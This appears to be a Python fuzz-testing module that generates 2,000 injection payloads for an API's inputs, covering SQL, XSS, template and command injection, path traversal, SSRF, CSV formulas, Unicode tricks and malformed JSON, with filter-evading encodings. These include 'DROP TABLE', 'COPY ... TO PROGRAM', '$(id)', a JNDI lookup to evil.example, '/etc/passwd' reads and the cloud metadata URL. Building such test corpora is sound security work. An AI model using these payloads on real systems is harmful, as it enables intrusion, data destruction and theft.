"""Makes two thousand payloads that try to leave the text they stand in: for SQL, patterns, queries, headers, markup and Unicode.

A payload is a string, or a piece of JSON that stands where a string is expected.
"""

import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from functools import cache
from typing import Final
from urllib.parse import quote

COUNT: Final = 2_000


@dataclass(frozen=True, slots=True)
class Injection:
    """`json` stands in a request where a string would; `text` is that string, None where it is none."""

    kind: str
    json: str
    text: str | None


_TEXTS: Final[Mapping[str, tuple[str, ...]]] = {
    "SQL": (
        "'",
        "''",
        "\\'",
        "' OR '1'='1",
        "' OR 1=1 --",
        "') OR ('1'='1",
        "'; DROP TABLE tasks; --",
        "1; SELECT pg_sleep(5)",
        "' || pg_sleep(5) || '",
        "' UNION SELECT NULL, password_hash FROM users --",
        "$1",
        "$2::text",
        ":name",
        "%(title)s",
        "%s",
        "{0}",
        "E'\\x27'",
        "$$; DROP TABLE users; $$",
        "$tag$ $tag$",
        '"; DELETE FROM teams; "',
        "/* */ 1",
        "NULL",
        "'::regclass",
        "'; COPY users TO PROGRAM 'id'; --",
        "¿' OR 1=1 --",
        "ʼ OR 1=1 --",
    ),
    "LIKE": ("%", "_", "%%", "\\", "\\%", "%_%", "a%' ESCAPE '!", "%" * 200, "_" * 200, "[a-z]%", "*", "?"),
    "regular expression": (
        "(a+)+$",
        "((a*)*)*b",
        "[",
        "(?:",
        "\\",
        "^(?=a)",
        ".*",
        "a{1,99999}",
        "(?i)",
        "\\1",
        "[[:alpha:]]",
        "(" * 90,
    ),
    "tsquery": (
        "a & !b",
        "!!",
        "& |",
        "a <-> b",
        "'a':*",
        ":*",
        "a:ABCD",
        "(a",
        "a & ",
        "<->",
        "'",
        "\\:",
        "a <9999999999> b",
        "- OR -",
        '"unclosed',
    ),
    "JSON path": (
        "$.*",
        "$[*] ? (@.a == 1)",
        '{"$gt": ""}',
        '{"$where": "sleep(500)"}',
        "a.b[0]",
        "#>>'{a}'",
        '$ ? (@ like_regex "(a+)+$")',
        '","admin":true,"x":"',
    ),
    "OpenSearch query": (
        "title:(a OR",
        "*:*",
        "_exists_:password",
        "/(a+)+b/",
        "a~2^999",
        "[* TO *]",
        '{"match_all":{}}',
        '"},"script":{"source":"1"}',
        "a AND NOT",
        "field\\:",
        "&& || !",
    ),
    "header": (
        "a\r\nBcc: eve@example.com",
        "a\nX-Evil: 1",
        "a\r\n\r\n<html>",
        "a\rSet-Cookie: a=b",
        "a%0d%0aX-Evil: 1",
        "\r\n.\r\nMAIL FROM:<eve@example.com>",
        "eve@example.com, bob@example.com",
        "eve@example.com\nRCPT TO:<bob@example.com>",
        '"eve"@example.com',
        "=?utf-8?q?=0d=0aBcc:_eve?=",
        "a\u2028X-Evil: 1",
        "a\x85X-Evil: 1",
        "a\x0bb",
        "a; filename=evil.exe",
        'a"; filename="b',
        "嘊嘍X-Evil: 1",
    ),
    "HTML": (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "<svg/onload=alert(1)>",
        "</title><script>alert(1)</script>",
        "javascript:alert(1)",
        "JaVaScRiPt&colon;alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<!--",
        "]]>",
        "&lt;script&gt;",
        "<style>*{background:url(//evil.example)}</style>",
        "<base href=//evil.example>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "<a href='&#106;avascript:alert(1)'>x</a>",
    ),
    "Markdown": (
        "[x](javascript:alert(1))",
        "![x](https://evil.example/a.png)",
        "[x]: javascript:alert(1)\n[x]",
        "<javascript:alert(1)>",
        "[" * 300,
        "> " * 120 + "x",
        "`" * 300,
        "*" * 300 + "a",
        "|a|\n|-|\n" + "|b|\n" * 40,
        "- " * 80 + "x",
        "[a](<x\n>)",
        "\\" * 99,
        "&#0; &#xD800; &#1114112;",
        "[x](user:00000000-0000-0000-0000-000000000000)",
        "@[x](User:1)",
        "```\n" * 40,
    ),
    "template": (
        "{{7*7}}",
        "{% for a in range(9999999) %}x{% endfor %}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{self.__init__.__globals__}",
        "${jndi:ldap://evil.example/a}",
        "%{#context}",
        "{0.__class__}",
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "&& id",
    ),
    "path": (
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "file:///etc/passwd",
        "....//....//etc/passwd",
        "%2e%2e%2fetc%2fpasswd",
        "C:\\CON",
        "NUL",
        "~root",
        "\\\\evil.example\\share",
        "a/../b",
        ".",
        "..",
        "http://169.254.169.254/latest/meta-data/",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "http://[::ffff:127.0.0.1]/",
    ),
    "Unicode": (
        "a\u0000b",
        "\u0000",
        "\u202egpj.exe",
        "\u2066a\u2069\u2067",
        "a\u200bb",
        "\u200b",
        "\ufeffa",
        "\u00ad",
        "e\u0301",
        "\u0301",
        "\u1100\u1161\u11a8",
        "ﬁ ﷺ",
        "Å Å Å",
        "ſKİı",
        "ßẞ",
        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "👩‍👩‍👧‍👦",
        "\U0010ffff",
        "\ufffe\uffff",
        "\U000e0001",
        "Z" + "\u0335" * 200,
        "\u2028\u2029",
        "\u0600\u06dd",
        "\u1d173",
        "ａｄｍｉｎ＇",
        "раypal",
        "\u3000",
        "\ufff9a\ufffab\ufffb",
        "\ufdd0",
        "\x7f\x80\x9f",
        "\x1b[2J",
        "\x08\x08",
    ),
    "CSV formula": (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        '=HYPERLINK("http://evil.example")',
        "=cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        ";=1+1",
        '"=1+1',
    ),
    "identifier": (
        "VGFzazo=",
        "VGFzazox",
        "Task:1",
        "====",
        "AAAA" * 40,
        "urn:uuid:0",
        "__proto__",
        "constructor",
        "__typename",
        "-_-_",
        "0",
        "null",
        "true",
        "NaN",
    ),
    "size": (
        "x" * 501,
        "x" * 65_537,
        "é" * 40_000,
        "\n" * 5_000,
        " " * 10_000 + "x",
        "🦊" * 3_000,
        "ﷺ" * 4_000,
        "\u0301" * 5_000,
        "a " * 30_000,
    ),
}
_JSON: Final[Mapping[str, tuple[str, ...]]] = {
    "number": (
        "1e400",
        "-1e400",
        "1e-400",
        "9" * 400,
        "-0",
        "-0.0",
        "0.1e1",
        "9007199254740993",
        "2147483648",
        "-9223372036854775809",
        "1" + "0" * 5_000,
    ),
    "surrogate": ('"\\ud800"', '"\\udfff\\ud800"', '"a\\ud83d"', '"\\u0000"', '"\\ud83d\\u0041"', '"\\uD83D\\uDE00"'),
    "structure": (
        "{}",
        "[]",
        "[[[[]]]]",
        "[" * 70 + "]" * 70,
        "[" * 1_100 + "]" * 1_100,
        '{"a":' * 65 + "1" + "}" * 65,
        '{"a":1,"a":2}',
        '{"__proto__":{"admin":true}}',
        "true",
        "false",
        "null",
        '[null,"a"]',
        '{"":""}',
        '{"\\u0000":1}',
        "NaN",
        "Infinity",
        "'a'",
        '"\\x41"',
        '"a',
        "[1,]",
    ),
}
_FULL_WIDTH: Final = {code: code + 0xFEE0 for code in range(0x21, 0x7F)}


# What a payload is put into, or written as: filters that look for the text itself do not find it again.
_WRITTEN: Final[tuple[Callable[[str], str], ...]] = (
    lambda text: text,
    lambda text: f"Plan {text} B",
    lambda text: f"{text}{text}",
    lambda text: f"'{text}",
    lambda text: f'"{text}"',
    lambda text: f"{text}\n{text}",
    lambda text: f"\u200b{text}\u200b",
    lambda text: text.translate(_FULL_WIDTH),
    lambda text: quote(text, safe=""),
    str.upper,
)


def _injections() -> Iterator[Injection]:
    for kind, pieces in _JSON.items():
        for piece in pieces:
            yield Injection(kind, piece, None)
    for write in _WRITTEN:
        for kind, texts in _TEXTS.items():
            for text in texts:
                written = write(text)
                yield Injection(kind, json.dumps(written), written)


@cache
def injections() -> tuple[Injection, ...]:
    """All payloads, no two of them alike, in an order that mixes their kinds."""
    found = list({each.json: each for each in _injections()}.values())[:COUNT]
    assert len(found) == COUNT
    # A step that has no factor in common with 2,000 comes by each once.
    return tuple(found[number * 617 % COUNT] for number in range(COUNT))
